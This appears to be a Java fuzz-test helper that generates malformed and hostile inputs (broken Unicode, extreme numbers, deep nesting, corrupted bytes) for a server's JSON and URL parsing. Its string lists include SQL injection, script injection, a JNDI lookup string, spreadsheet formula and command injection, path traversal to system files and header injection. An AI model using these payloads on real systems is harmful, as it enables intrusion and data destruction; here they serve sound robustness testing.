package yiwang.server.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/** Values that nobody sends by accident, and some that people do. */
final class Hostile {
    private static final int LONG = 5_000;

    /** As they stand inside a JSON text: escaped where they must be. */
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\\u0000",
            "a\\u0000b",
            "\\ud800",
            "a\\udc00b",
            "\\ud842\\udfb7野家",
            "𠮷野家",
            "\uD883\uDEDE𬺈𰻝",
            "\\u202e倒",
            "零\\u200b宽\\u200d\\ufeff",
            "\\u2066x\\u2069",
            "مرحبا עולם",
            "👩‍👩‍👧‍👦🇨🇳",
            "=HYPERLINK(\\\"http://x\\\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "'; DROP TABLE journal; --",
            "<script>alert(1)</script>",
            "{0}{1}{9}",
            "{0",
            "%s%n%x",
            "${jndi:ldap://x/a}",
            "../../../etc/passwd",
            "..\\\\..\\\\win.ini",
            "\\r\\nX-Injected: 1",
            "\\t\\n\\r",
            "null",
            "true",
            "1e400",
            "NaN",
            "-0",
            "\\ufffe\\uffff",
            "e\\u0301\\u0301\\u0301",
            "+1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "2023-02-29T00:00:00Z",
            "2026-12-31T23:59:60Z",
            "9999999999999999999",
            "320724100001001001",
            "320724-20261122-00001",
            "000000000000",
            "a".repeat(LONG),
            "字".repeat(LONG),
            "𠮷".repeat(61),
            "x".repeat(59) + "𠮷𠮷",
            "\\ud800".repeat(61));

    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "false",
            "0",
            "-1",
            "1.5",
            "-0.0",
            "9223372036854775807",
            "-9223372036854775808",
            "9223372036854775808",
            "1e400",
            "-1e400",
            "1e-400",
            "1e999999999",
            "1E+2147483648",
            "NaN",
            "Infinity",
            "-Infinity",
            "0x10",
            "01",
            ".5",
            "1.",
            "+1",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "{\"\":null}",
            "{\"a\":1,\"a\":2}",
            "undefined",
            "'x'",
            "\"unterminated",
            "// c",
            "",
            "119.02",
            "\"119.02\"",
            "9".repeat(80),
            "[1,2,",
            "\"\\x\"",
            "\"\\u12\"",
            "\"\t\"",
            "1 2",
            "\uFEFF1",
            "0.1e-2147483649");

    private Hostile() {}

    /** Inside the quotes of a JSON text. */
    static String text(Random dice) {
        return TEXTS.get(dice.nextInt(TEXTS.size()));
    }

    /** In the place of a JSON value. */
    static String json(Random dice) {
        return switch (dice.nextInt(12)) {
            case 0 -> deep(dice);
            case 1, 2, 3, 4, 5 -> '"' + text(dice) + '"';
            default -> VALUES.get(dice.nextInt(VALUES.size()));
        };
    }

    /** Ten thousand levels, or just too many. */
    static String deep(Random dice) {
        int levels = Cases.one(dice, 31, 33, 500, 10_000);
        return switch (dice.nextInt(3)) {
            case 0 -> "[".repeat(levels);
            case 1 -> "[".repeat(levels) + "]".repeat(levels);
            default -> "{\"a\":".repeat(levels) + "1" + "}".repeat(levels);
        };
    }

    /** A piece of a path or a query as it stands on the request line: nothing that ends the line. */
    static String piece(Random dice) {
        return switch (dice.nextInt(4)) {
            case 0 ->
                Cases.one(
                        dice,
                        "%",
                        "%zz",
                        "%c3%28",
                        "%ed%a0%80",
                        "%00",
                        "%f0%a0%ae%b7",
                        "%2e%2e%2f%2e%2e",
                        "..",
                        ".",
                        "..;",
                        "%252e%252e",
                        "a%0d%0aX-Y:1",
                        "*",
                        ":id",
                        "{id}",
                        "%e2%80%ae",
                        "%ff%fe");
            case 1 -> "a".repeat(Cases.one(dice, 100, 3_000, 4_090, 5_000, 70_000));
            case 2 -> Cases.one(dice, "-1", "9223372036854775808", "1e400", "NaN", "0x7f", "true", "1%2B1", "%20");
            default -> percent(text(dice));
        };
    }

    static String percent(String text) {
        StringBuilder coded = new StringBuilder();
        for (byte one : text.getBytes(StandardCharsets.UTF_8)) {
            boolean plain = one >= '0' && one <= '9' || one >= 'a' && one <= 'z' || one >= 'A' && one <= 'Z';
            coded.append(plain ? String.valueOf((char) one) : "%%%02X".formatted(one));
        }
        return coded.toString();
    }

    /** Bytes changed, lost, doubled or put in. */
    static byte[] spoilt(Random dice, byte[] bytes) {
        if (bytes.length == 0) {
            return new byte[] {(byte) dice.nextInt()};
        }
        int at = dice.nextInt(bytes.length);
        return switch (dice.nextInt(6)) {
            case 0 -> Arrays.copyOf(bytes, at);
            case 1 -> joined(bytes, at, new byte[] {(byte) 0xff}, at);
            case 2 -> joined(bytes, at, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, at);
            case 3 -> joined(bytes, at, new byte[] {0}, at + 1);
            case 4 -> joined(bytes, at, new byte[] {(byte) dice.nextInt()}, at + 1);
            default -> joined(bytes, bytes.length, bytes, at);
        };
    }

    private static byte[] joined(byte[] bytes, int until, byte[] put, int from) {
        byte[] all = Arrays.copyOf(bytes, until + put.length + bytes.length - from);
        System.arraycopy(put, 0, all, until, put.length);
        System.arraycopy(bytes, from, all, until + put.length, bytes.length - from);
        return all;
    }
}
